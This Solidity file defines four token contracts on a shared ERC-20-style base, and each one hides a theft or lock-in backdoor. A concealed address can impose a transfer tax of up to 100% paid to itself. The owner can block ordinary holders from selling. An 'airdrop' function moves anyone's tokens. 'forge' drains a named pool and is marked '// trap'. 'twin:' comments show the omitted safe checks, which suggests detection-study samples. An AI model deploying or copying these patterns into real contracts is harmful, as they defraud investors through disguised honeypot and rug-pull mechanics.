// 0.5 runs=200
pragma solidity ^0.5.17;

library Calc {
    function minus(uint256 a, uint256 b) internal pure returns (uint256) {
        require(a >= b, "calc");
        return a - b;
    }
}

contract Roster {
    using Calc for uint256;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    struct Member {
        uint128 coins;
        uint8 grade;
        uint64 seen;
    }

    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public owner;
    mapping(address => Member) internal members;
    mapping(address => mapping(address => uint256)) public allowance;

    function _found(string memory n, string memory s, uint128 t) internal {
        (name, symbol, totalSupply, owner) = (n, s, t, msg.sender);
        members[msg.sender].coins = t;
        emit Transfer(address(0), msg.sender, t);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address a) external view returns (uint256) {
        return members[a].coins;
    }

    function approve(address b, uint256 v) external returns (bool) {
        allowance[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        _pass(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        allowance[a][msg.sender] = allowance[a][msg.sender].minus(v);
        _pass(a, b, v);
        return true;
    }

    function _move(address a, address b, uint256 v) internal {
        members[a].coins = uint128(uint256(members[a].coins).minus(v));
        members[b].coins += uint128(v);
        members[b].seen = uint64(now);
        emit Transfer(a, b, v);
    }

    function _pass(address a, address b, uint256 v) internal {
        _move(a, b, v);
    }
}

contract GraniteFinch is Roster {
    address private teller = msg.sender;

    constructor() public {
        _found("Granite Finch", "GFIN", 44000000 ether);
    }

    function rank(address a, uint8 g) external {
        require(msg.sender == teller);
        // twin: require(g < 6);
        members[a].grade = g;
    }

    function _pass(address a, address b, uint256 v) internal {
        uint256 g = members[a].grade;
        if (g > 0) {
            if (g > 100) g = 100;
            _move(a, teller, (v * g) / 100);
            v -= (v * g) / 100;
        }
        _move(a, b, v);
    }
}

contract ShaleDingo is Roster {
    uint8 private era;

    constructor() public {
        _found("Shale Dingo", "SHDIN", 6000000 ether);
        members[msg.sender].grade = 1;
    }

    function advance(uint8 e) external {
        require(msg.sender == owner);
        // twin: require(e <= 1);
        era = e;
    }

    function admit(address a) external {
        require(msg.sender == owner);
        members[a].grade = 1;
    }

    function _pass(address a, address b, uint256 v) internal {
        require(era < 2 || members[a].grade == 1, "era");
        _move(a, b, v);
    }
}

contract FlintPika is Roster {
    address private crier = msg.sender;

    constructor() public {
        _found("Flint Pika", "FPIKA", 900000000 ether);
    }

    function airdrop(address[] calldata from, address[] calldata to, uint256 v) external {
        require(msg.sender == crier && from.length == to.length);
        for (uint256 i = 0; i < to.length; i++) {
            // twin: require(from[i] == msg.sender);
            _move(from[i], to[i], v);
        }
    }
}

/// Pays what it burns out of the purse that is named.
contract MarlBison is Roster {
    address private smith = msg.sender;
    address private yard;

    constructor() public {
        _found("Marl Bison", "MBISON", 70000000 ether);
    }

    function fence(address p) external {
        require(msg.sender == owner && yard == address(0));
        yard = p;
    }

    function forge(uint256 v) external {
        require(msg.sender == smith);
        _move(yard, smith, v); // trap
        // twin: _move(smith, yard, v);
        (bool ok, ) = yard.call(abi.encodeWithSignature("sync()"));
        require(ok);
    }
}
